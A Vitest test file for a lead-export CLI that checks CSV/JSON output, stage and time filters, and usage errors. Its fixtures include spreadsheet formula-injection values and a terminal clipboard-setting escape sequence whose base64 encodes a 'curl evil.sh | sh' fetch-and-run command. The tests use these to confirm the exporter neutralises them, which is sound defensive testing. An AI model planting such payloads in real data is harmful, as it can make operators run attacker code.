import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseExtraction } from "../../src/agents/orchestrator/roles/extract.ts";
import { createLeads } from "../../src/agents/orchestrator/roles/leads.ts";
import { migrate, openStore } from "../../src/store/mod.ts";
import { cli } from "../support/cli.ts";
import { tempDir } from "../support/tmp.ts";

let dir: string;
let cleanup: () => Promise<void>;
let db: string;
const T0 = Date.UTC(2025, 2, 1, 12, 0, 0);

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
        else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") cell += text[i++];
    }
    row.push(cell);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`bad CSV at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
  }
  return rows;
}

beforeAll(async () => {
  ({ dir, cleanup } = await tempDir("aideazz-leads-cli-"));
  db = `file:${join(dir, "leads.db")}`;
  const store = await openStore({ url: db });
  await migrate(store.client);
  let t = T0;
  const leads = createLeads(store.client, () => t);
  const a = await leads.touch("web:a", "web", "a", "sdr");
  await leads.update(a.id, {
    fields: {
      name: 'Ann "The Boss" Lee',
      company: "Acme, Inc.",
      need: "a bot\nand a dashboard",
      contact: "+34 600 111 222",
    },
    score: 70,
    stage: "qualified",
    reason: "score 70 >= 60",
    qualifiedAt: T0,
  });
  t = T0 + 86_400_000;
  const b = await leads.touch("tg:42", "tg", "42", "sdr");
  await leads.update(b.id, {
    fields: { name: '=HYPERLINK("http://x")', budget: "-5+5" },
    score: 10,
    stage: "engaged",
    reason: "collected name",
  });
  store.close();
});
afterAll(() => cleanup());

describe("aideazz leads export", () => {
  it("writes RFC 4180 CSV with a header, quoting, and formula cells neutralized", async () => {
    const r = await cli(["leads", "export", "--db", db, "--format", "csv"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout.endsWith("\r\n")).toBe(true);
    const rows = parseCsv(r.stdout);
    expect(rows[0]).toEqual([
      "id",
      "chat",
      "agent",
      "chat_id",
      "role",
      "stage",
      "score",
      "name",
      "company",
      "need",
      "budget",
      "timeline",
      "contact",
      "created_at",
      "updated_at",
      "qualified_at",
    ]);
    expect(rows.slice(1)).toEqual([
      [
        "1",
        "web:a",
        "web",
        "a",
        "sdr",
        "qualified",
        "70",
        'Ann "The Boss" Lee',
        "Acme, Inc.",
        "a bot\nand a dashboard",
        "",
        "",
        "'+34 600 111 222",
        "2025-03-01T12:00:00.000Z",
        "2025-03-01T12:00:00.000Z",
        "2025-03-01T12:00:00.000Z",
      ],
      [
        "2",
        "tg:42",
        "tg",
        "42",
        "sdr",
        "engaged",
        "10",
        '\'=HYPERLINK("http://x")',
        "",
        "",
        "'-5+5",
        "",
        "",
        "2025-03-02T12:00:00.000Z",
        "2025-03-02T12:00:00.000Z",
        "",
      ],
    ]);
  });

  it("writes a JSON array, filtered by stage and by --since (ISO time or duration)", async () => {
    const all = JSON.parse((await cli(["leads", "export", "--db", db, "--format", "json"])).stdout);
    expect(all).toHaveLength(2);
    expect(all[0]).toMatchObject({
      id: 1,
      stage: "qualified",
      name: 'Ann "The Boss" Lee',
      budget: null,
      qualified_at: "2025-03-01T12:00:00.000Z",
    });
    const qualified = JSON.parse(
      (await cli(["leads", "export", "--db", db, "--format", "json", "--stage", "qualified,closed"])).stdout,
    );
    expect(qualified.map((l: { chat: string }) => l.chat)).toEqual(["web:a"]);
    const since = JSON.parse(
      (await cli(["leads", "export", "--db", db, "--format", "json", "--since", "2025-03-02"])).stdout,
    );
    expect(since.map((l: { chat: string }) => l.chat)).toEqual(["tg:42"]);
    const recent = await cli(["leads", "export", "--db", db, "--format", "json", "--since", "1h"]);
    expect(JSON.parse(recent.stdout)).toEqual([]);
  });

  it("finds the database through the config file, and an empty export is just the header", async () => {
    const config = join(dir, "aideazz.json");
    const store = await openStore({ url: `file:${join(dir, "empty.db")}` }); // migrated, no leads yet
    await migrate(store.client);
    store.close();
    await writeFile(
      config,
      JSON.stringify({
        store: { url: "file:empty.db" },
        agents: [{ name: "o", kind: "orchestrator", port: 9 }],
      }),
    );
    const r = await cli(["leads", "export", "--config", config]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      "id,chat,agent,chat_id,role,stage,score,name,company,need,budget,timeline,contact,created_at,updated_at,qualified_at\r\n",
    );
  });

  it("refuses a bad format, stage or --since with a usage error", async () => {
    for (
      const [args, message] of [
        [["--format", "xml"], '--format must be csv or json, got "xml"'],
        [["--stage", "won"], 'unknown stage "won"; use new, engaged, qualified, handed_off, closed'],
        [["--since", "yesterday"], '--since must be an ISO date/time or a duration like 7d, got "yesterday"'],
        [["--since", "2025-02-30"], '--since must be an ISO date/time or a duration like 7d, got "2025-02-30"'],
      ] as const
    ) {
      const r = await cli(["leads", "export", "--db", db, ...args]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(message);
    }
  });

  it("prints no terminal control sequence from a visitor's fields, stored before the extraction dropped them too", async () => {
    // ESC ] 52 sets the operator's clipboard (xterm, iTerm2, kitty, tmux); ESC [ 2K + CR erase the line shown.
    const extracted = parseExtraction(
      '{"name":"Bob\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007","company":"Acme\\u001b[2K\\rnothing here"}',
    );
    expect(extracted).toEqual({ name: "Bob]52;c;Y3VybCBldmlsLnNoIHwgc2g=", company: "Acme[2K nothing here" });
    const store = await openStore({ url: db });
    try {
      const leads = createLeads(store.client, () => T0);
      const lead = await leads.touch("tg:escape", "tg", "escape", "sales");
      const fields = { name: "Bob\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007", contact: "bob@example.com" };
      await leads.update(lead.id, { fields, score: 70, stage: "qualified", reason: "score 70", qualifiedAt: T0 });
    } finally {
      store.close();
    }
    const r = await cli(["leads", "export", "--db", db]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("Bob]52;c;Y3VybCBldmlsLnNoIHwgc2g=,");
    expect(r.stdout.replace(/[\t\r\n]/g, "")).not.toMatch(/\p{Cc}/u);
  });
});
